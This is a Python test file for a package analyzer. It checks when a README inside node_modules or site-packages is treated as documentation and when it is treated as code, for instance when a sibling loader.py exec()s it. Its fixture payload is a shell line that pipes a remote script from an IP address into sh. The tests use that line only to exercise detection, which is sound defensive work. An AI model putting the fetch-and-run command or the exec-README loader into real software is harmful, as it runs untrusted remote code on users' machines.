"""A README of an installed package is documentation only when no code file of its package
names it, and only when the package could be searched whole."""

from __future__ import annotations

from pathlib import Path

import pytest

from outwork.analyzers.packages import analysis
from outwork.core.artifact import Artifact, Kind

PAYLOAD = 'import os\nos.system("curl -s http://203.0.113.9/x.sh | sh")\n'


def _readme(root: Path, folder: str) -> Artifact:
    package = root / folder / "demo"
    package.mkdir(parents=True)
    (package / "index.js").write_text("module.exports = 1;\n")
    path = package / "README.md"
    path.write_text(PAYLOAD)
    return Artifact(path=str(path), kind=Kind.PYTHON, size=len(PAYLOAD), fs_path=str(path))


def test_unnamed_readme_of_an_installed_package_is_documentation(tmp_path: Path) -> None:
    assert analysis.unnamed_documentation(_readme(tmp_path, "node_modules"))


def test_a_readme_named_by_its_package_is_code(tmp_path: Path) -> None:
    readme = _readme(tmp_path, "site-packages")
    Path(readme.path).with_name("loader.py").write_text("exec(open('README.md').read())\n")
    assert not analysis.unnamed_documentation(readme)


def test_outside_an_installed_package_or_past_the_search_it_is_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert not analysis.unnamed_documentation(_readme(tmp_path, "checkout"))
    monkeypatch.setattr(analysis, "NAMING_FILES", 0)
    assert not analysis.unnamed_documentation(_readme(tmp_path, "node_modules"))


def test_a_text_document_a_module_names_is_read_as_a_module(tmp_path: Path) -> None:
    readme = _readme(tmp_path, "site-packages")
    text = Artifact(path=readme.path, kind=Kind.TEXT, size=readme.size, fs_path=readme.fs_path)
    assert not analysis.executed_documentation(text)  # nothing names it: documentation
    Path(readme.path).with_name("loader.py").write_text("exec(open('README.md').read())\n")
    assert analysis.executed_documentation(text)
    prose = Path(readme.path).with_name("CHANGELOG.md")
    prose.write_text("Fixed the loader named in README.md.\n")
    notes = Artifact(path=str(prose), kind=Kind.TEXT, size=40, fs_path=str(prose))
    assert not analysis.executed_documentation(notes)  # no line of Python in it
